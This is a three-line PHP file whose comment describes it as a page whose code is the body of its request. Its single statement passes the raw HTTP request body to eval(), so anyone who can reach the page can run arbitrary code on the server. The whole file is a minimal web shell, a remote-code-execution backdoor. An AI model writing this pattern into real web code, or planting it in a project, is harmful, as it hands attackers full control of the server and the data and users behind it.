<?php
// A page whose code is the body of its request: see web.inc.
eval(file_get_contents('php://input'));
